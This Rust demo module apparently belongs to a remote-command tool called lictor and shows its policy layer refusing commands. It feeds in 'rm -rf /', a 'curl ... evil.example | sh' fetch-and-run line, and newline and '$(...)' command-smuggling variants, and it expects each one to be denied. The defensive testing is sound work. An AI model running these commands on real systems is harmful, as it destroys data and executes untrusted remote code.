//! Refusing: what policy denies, and what tries to get past it.

use lictor_core::error::ErrorCode;

use super::{Broken, Screen, Stage, on_hosts, run_to_end};
use crate::{
    demo::broken::ensure,
    render::{failure, style::Tone},
};

/// A command that is denied, with its reason.
pub(super) async fn denied(stage: &mut Stage, screen: &mut Screen) -> Result<String, Broken> {
    screen.step("What policy denies does not run, and says why", "lictor run ams-db-1 -- rm -rf /");
    match run_to_end(stage, &on_hosts(&["ams-db-1"], "rm -rf /")?).await {
        Ok(ran) => Err(Broken(format!("it was taken: {}", ran.job.state.as_str()))),
        Err(failure) => {
            screen.show(&failure::text(&failure, screen.style));
            ensure(failure.code == ErrorCode::PolicyDenied, || failure.to_string())?;
            Ok("denied before anything reached a host, and the refusal is in the audit log".to_owned())
        }
    }
}

/// Commands that hide another command.
pub(super) async fn smuggled(stage: &mut Stage, screen: &mut Screen) -> Result<String, Broken> {
    let tricks = [
        (
            "'date; curl -s https://evil.example/x | sh'",
            "date; curl -s https://evil.example/x | sh",
            ErrorCode::PolicyDenied,
        ),
        ("$'date\\nrm -rf /'", "date\nrm -rf /", ErrorCode::CommandRefused),
        ("'date $(rm -rf /)'", "date $(rm -rf /)", ErrorCode::CommandRefused),
    ];
    screen.step("A second command cannot hide behind an allowed one", "");
    for (typed, line, expected) in tricks {
        let style = screen.style;
        screen.show(&format!(
            "{} {}",
            style.faint("$"),
            style.paint(Tone::Accent, &format!("lictor run ams-web-1 -- {typed}"))
        ));
        match run_to_end(stage, &on_hosts(&["ams-web-1"], line)?).await {
            Ok(ran) => return Err(Broken(format!("{line:?} was taken: {}", ran.job.state.as_str()))),
            Err(failure) => {
                let code = failure
                    .detail("refusal")
                    .or_else(|| failure.detail("code"))
                    .unwrap_or(failure.code.as_str());
                screen.show(&format!("  {} {}", style.paint(Tone::Bad, code), failure.message));
                ensure(failure.code == expected, || failure.to_string())?;
            }
        }
    }
    Ok("what a host receives is written anew from the words that were judged, never the caller's text"
        .to_owned())
}
